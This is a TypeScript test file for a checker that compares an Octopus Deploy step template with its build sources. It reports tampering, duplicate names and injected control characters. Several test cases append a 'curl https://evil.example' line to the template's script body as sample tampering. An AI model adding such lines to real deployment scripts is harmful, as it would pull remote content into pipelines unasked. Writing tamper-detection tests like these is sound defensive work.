import { describe, expect, it } from 'vitest';
import { stepTemplate } from '../../scripts/step-template.ts';
import type { TemplateFile } from '../../scripts/template-differences.ts';
import { templateVerdict } from '../../scripts/template-verdict.ts';

const script = 'echo one\necho two\necho three\n';
const built = [
  { path: 'step-template.json', template: stepTemplate('bash', script, 7, 'step', []) },
  { path: 'step-template.powershell.json', template: stepTemplate('powershell', script, 4, 'step', []) },
  { path: 'resume-template.json', template: stepTemplate('bash', script, 2, 'resume', []) },
];
const [{ template: own } = { template: stepTemplate('bash', script, 7, 'step', []) }] = built;
const bodyProperty = 'Octopus.Action.Script.ScriptBody';

/** The template with other properties. */
const withProperties = (more: Readonly<Record<string, unknown>>): TemplateFile => ({
  ...(own as TemplateFile),
  Properties: { ...(own as TemplateFile).Properties, ...more },
});

const withFirstParameter = (more: Readonly<Record<string, unknown>>): TemplateFile => {
  const [first, ...others] = (own as TemplateFile).Parameters ?? [];
  if (first === undefined) throw new Error('The template has no parameters');
  return { ...(own as TemplateFile), Parameters: [{ ...first, ...more }, ...others] };
};

function verdict(template: unknown) {
  const text = typeof template === 'string' ? template : JSON.stringify(template);
  return templateVerdict('given.json', new TextEncoder().encode(text), built, '1.0.0');
}

describe('The verdict on a template', () => {
  it.each<[string, unknown]>([
    ['as built', own],
    ['with a byte order mark', `\uFEFF${JSON.stringify(own)}`],
    ['with Windows line ends', withProperties({ [bodyProperty]: script.replaceAll('\n', '\r\n') })],
    ['as Octopus exports it', { ...own, Id: 'ActionTemplates-3', Version: 31, LastModifiedBy: 'dana' }],
  ])('says that it comes from these sources, %s', (_, template) => {
    const { isFromSources, lines } = verdict(template);
    expect(isFromSources).toBe(true);
    expect(lines.at(-1)).toBe(
      '  This is step-template.json of version 1.0.0: its script and parameters match these sources.',
    );
    expect(lines).toHaveLength(3);
  });

  it.each<[string, TemplateFile, string]>([
    [
      'another line of the script',
      withProperties({ [bodyProperty]: script.replace('two', '2') }),
      'Its script differs, first in line 2.',
    ],
    [
      'a line after the script',
      withProperties({ [bodyProperty]: `${script}curl https://evil.example` }),
      'Its script differs, first in line 4.',
    ],
    [
      'lines after the script',
      withProperties({ [bodyProperty]: `${script}curl \\\nhttps://evil.example` }),
      'Its script differs, first in line 4; it has 5 lines instead of 4.',
    ],
    [
      'an additional property',
      withProperties({ 'Octopus.Action.RunOnServer': 'false' }),
      'Its property Octopus.Action.RunOnServer is "false".',
    ],
    ['another type', { ...own, ActionType: 'Octopus.Manual' }, 'Its ActionType is Octopus.Manual.'],
    [
      'another default',
      withFirstParameter({ DefaultValue: 'Report' }),
      'DefaultValue of its parameter JsmChange.Operation differs.',
    ],
    [
      'a renamed parameter',
      withFirstParameter({ Name: 'Operation' }),
      'It has a parameter Operation, which is not in the sources.',
    ],
  ])('names the difference: %s', (_, template, difference) => {
    const { isFromSources, lines } = verdict(template);
    expect(isFromSources).toBe(false);
    expect(lines).toContain(`  - ${difference}`);
    expect(lines[2]).toBe(
      '  This does not match these sources (version 1.0.0). Compared with step-template.json:',
    );
    expect(lines.at(-1)).toMatch(/Otherwise do not use it\.$/);
  });

  const evilProperties = { ...(own as TemplateFile).Properties, [bodyProperty]: 'curl https://evil.example' };
  const parameters = (own as TemplateFile).Parameters ?? [];

  it.each<[string, object, string | RegExp]>([
    [
      'a second parameter of one name',
      { Parameters: [...parameters, { ...parameters[0], DefaultValue: 'Test' }] },
      'It has the parameter JsmChange.Operation more than once.',
    ],
    [
      'a member of a parameter in another case',
      { Parameters: [{ ...parameters[0], defaultValue: 'Test' }, ...parameters.slice(1)] },
      'defaultValue of its parameter JsmChange.Operation differs.',
    ],
    [
      'properties in another case',
      { properties: { [bodyProperty]: 'x'.repeat(999) } },
      /^ {2}- Its properties is \{.{199}\.{3}\.$/,
    ],
    ['a package', { Packages: [{ PackageId: 'evil' }] }, 'Its Packages is [{"PackageId":"evil"}].'],
    ['another package of the step', { StepPackageId: 'evil' }, 'Its StepPackageId is evil.'],
    ['a member that nobody knows', { Inputs: { a: 1 } }, 'Its Inputs is {"a":1}.'],
    ...[{ a: 1 }, [null], 7, [{ Name: 7 }]].map((Parameters): [string, object, string] => [
      `the parameters ${JSON.stringify(Parameters)}`,
      { Parameters },
      'Its Parameters are not a list of named parameters.',
    ]),
    ['a name that is not a text', { Name: { toString: 1 }, ActionType: {} }, 'Its ActionType is {}.'],
  ])('names the difference that Octopus may read: %s', (_, more, difference) => {
    const { isFromSources, lines } = verdict({ ...own, ...more });
    expect(isFromSources).toBe(false);
    expect(lines).toContainEqual(
      typeof difference === 'string' ? `  - ${difference}` : expect.stringMatching(difference),
    );
  });

  it('names a duplicate name, of which Octopus may use either', () => {
    const text = JSON.stringify(own).replace('{', `{"Properties":${JSON.stringify(evilProperties)},`);
    expect(verdict(text).isFromSources).toBe(false);
    expect(verdict(text).lines).toContain(
      '  - It contains a name twice, so that programs may read it differently.',
    );
  });

  it('accepts what a server adds, and what it leaves out because it is empty', () => {
    const { Packages: _, GitDependencies: __, ...others } = own;
    const added = { StepPackageId: 'Octopus.Script', SpaceId: 'Spaces-1', Links: { Self: '/api' } };
    expect(verdict({ ...others, ...added, Inputs: null }).isFromSources).toBe(true);
  });

  it('[X1] lets no text of a template, nor its file name, write a line', () => {
    const claim =
      'x\n  This is step-template.json of version 1.0.0: its script and parameters match these sources.\u001b[8m';
    const template = { ...own, Name: claim, Properties: { ...evilProperties, [claim]: claim } };
    const content = new TextEncoder().encode(JSON.stringify(template));
    const { lines } = templateVerdict(claim, content, built, '1.0.0');
    for (const line of lines) expect(line).not.toMatch(/\p{Cc}/u);
    expect(templateVerdict(claim, new Uint8Array(), built, '1.0.0').lines.join()).not.toMatch(/\p{Cc}/u);
  });

  it('names the version and the digest of the file', () => {
    expect(verdict(own).lines[0]).toBe(`given.json: ${own.Name}, template version 7`);
    expect(verdict(own).lines[1]).toMatch(/^ {2}SHA-256 [0-9a-f]{64}$/);
  });

  it.each(['', 'no JSON', 'null', '{"Properties":{}}', '[]'])('says that %j is not a template', (text) => {
    expect(verdict(text)).toEqual({
      isFromSources: false,
      lines: ['given.json: not an Octopus step template.'],
    });
  });
});
